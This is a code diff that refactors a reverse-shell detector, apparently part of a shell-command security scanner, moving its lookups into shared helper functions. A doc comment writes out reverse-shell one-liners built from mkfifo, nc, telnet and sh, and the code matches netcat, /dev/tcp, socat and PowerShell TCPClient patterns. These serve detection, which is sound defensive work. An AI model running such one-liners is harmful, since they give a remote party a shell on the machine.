@@ -2,7 +2,7 @@ import { SHELL_NAMES } from '../../../knowledge/commands.ts';
 import { isLoopbackHost } from '../../../knowledge/hosts.ts';
 import type { Command, CommandScript } from '../model.ts';
 import { inlineCode, interpretation, pathKey, pipedInto } from './flow.ts';
-import { memoize } from './types.ts';
+import { commandsThat, firstAfter, laterStages, memoize } from './types.ts';
 import type { ShellFinding } from './types.ts';
 
 export type ReverseShellKind = 'device' | 'netcat' | 'pipe' | 'socat' | 'code';
@@ -33,7 +33,7 @@ function throughDevice(command: Command, script: CommandScript): ReverseShell | 
   if (isLoopbackHost(host)) return null;
   if (isShell(command) && interpretation(command)?.readsInput === true) return report(command, 'device', host);
   if (command.name !== 'exec' && command.name !== null) return null;
-  const later = script.commands.find((other) => other.range[0] > command.range[0] && runsDescriptor(other));
+  const later = firstAfter(descriptorRunners(script), command);
   return later ? report(later, 'device', host) : null;
 }
 
@@ -41,7 +41,7 @@ function throughDevice(command: Command, script: CommandScript): ReverseShell | 
 function throughZsh(command: Command, script: CommandScript): ReverseShell | null {
   const [host] = command.args.filter(({ value }) => !value.startsWith('-'));
   if (!host || isLoopbackHost(host.value) || command.args.some(({ value }) => /^-[a-z]{0,4}[lc]/.test(value))) return null;
-  const later = script.commands.find((other) => isShell(other) && other.range[0] > command.range[0] && (runsDescriptor(other) || other.redirects.some(({ target }) => target.variables.includes('REPLY'))));
+  const later = firstAfter(replyShells(script), command);
   return later ? report(later, 'device', host.value) : null;
 }
 
@@ -51,6 +51,11 @@ function runsDescriptor(command: Command): boolean {
   if (isShell(command)) return reads;
   return command.name === null && command.redirects.some(({ operator, target }) => operator.startsWith('>') && /^&?[3-9]\d{0,3}$/.test(target.value));
 }
+
+const descriptorRunners = commandsThat(runsDescriptor);
+const replyShells = commandsThat((command) => isShell(command) && (runsDescriptor(command) || command.redirects.some(({ target }) => target.variables.includes('REPLY'))));
+const expressions = commandsThat(({ name }) => name === 'iex' || name === 'invoke-expression');
+const pipes = commandsThat(({ name }) => name === 'mkfifo' || name === 'mknod');
 
 function throughNetcat(command: Command): ReverseShell | null {
   const name = command.name?.toLowerCase() ?? '';
@@ -78,11 +83,11 @@ function readsFrom(reader: Command, writer: Command): boolean {
 /** `mkfifo p; cat p | sh -i | nc h 1 > p`, `sh < p | nc h 1 > p`, `telnet h 1 < p | sh > p`, `nc h 1 | sh | nc h 2`. */
 function throughPipe(command: Command, script: CommandScript): ReverseShell | null {
   if (!isSocket(command)) return null;
-  const back = command.pipeline.slice(command.stage + 1).find((stage) => obeysInput(stage) && readsFrom(command, stage));
+  const back = laterStages(command).find((stage) => obeysInput(stage) && readsFrom(command, stage));
   if (back) return report(back, 'pipe', command.name ?? '');
   const shell = pipedInto(command).find(obeysInput);
   if (!shell || (shell.upstream.length === 0 && !readsFrom(shell, command))) return null;
-  const fifo = script.commands.some(({ name }) => name === 'mkfifo' || name === 'mknod');
+  const fifo = pipes(script).length > 0;
   const fromSocket = pipedInto(shell).some(isSocket);
   const interactive = shell.args.some(({ value }) => /^-[a-z]{0,4}i/.test(value));
   return fifo || fromSocket || interactive ? report(command, 'pipe', shell.name ?? '') : null;
@@ -119,6 +124,6 @@ function throughStream(command: Command, script: CommandScript): ReverseShell | 
   if (command.dialect !== 'powershell') return null;
   const isClient = command.name === 'new-object' ? /Net\.Sockets\.TCPClient/i.test(command.args[0]?.text ?? '') : /Net\.Sockets\.TCPClient\]::new/i.test(command.word.text);
   if (!isClient || !/GetStream\s{0,3}\(/i.test(script.source.text.slice(0, 65_536)) || command.args.some(({ value }) => isLoopbackHost(value))) return null;
-  const later = script.commands.some((other) => other.range[0] > command.range[0] && (other.name === 'iex' || other.name === 'invoke-expression'));
+  const later = firstAfter(expressions(script), command);
   return later ? report(command, 'code', 'TCPClient') : null;
 }
